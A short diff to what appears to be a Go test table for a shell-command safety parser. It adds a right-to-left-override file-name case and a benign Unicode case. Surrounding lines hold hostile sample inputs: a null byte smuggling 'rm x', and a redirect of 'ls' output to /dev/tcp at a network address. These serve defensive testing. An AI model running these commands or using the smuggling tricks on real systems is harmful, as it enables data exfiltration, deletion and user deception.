@@ -163,6 +163,8 @@ var findingTests = []struct {
 	{"echo 'safe\x1b[1A' x", []string{"1:11 parser.unsupported"}},
 	{"echo a\x00; rm x", []string{"1:7 parser.unsupported"}},
 	{"echo \u0080", []string{"1:6 parser.unsupported"}},
+	{"echo '\u202e'txt.exe", []string{"1:7 parser.unsupported"}},
+	{"echo 'ünïcode ok'", nil},
 	{"cat <<EOF; echo \"a\rb\" \r x\nbody\rx\nEOF", []string{"1:23 parser.line_break_lookalike"}},
 	// redirects
 	{`ls > /dev/tcp/1.2.3.4/80`, []string{"1:6 redirect.network"}},
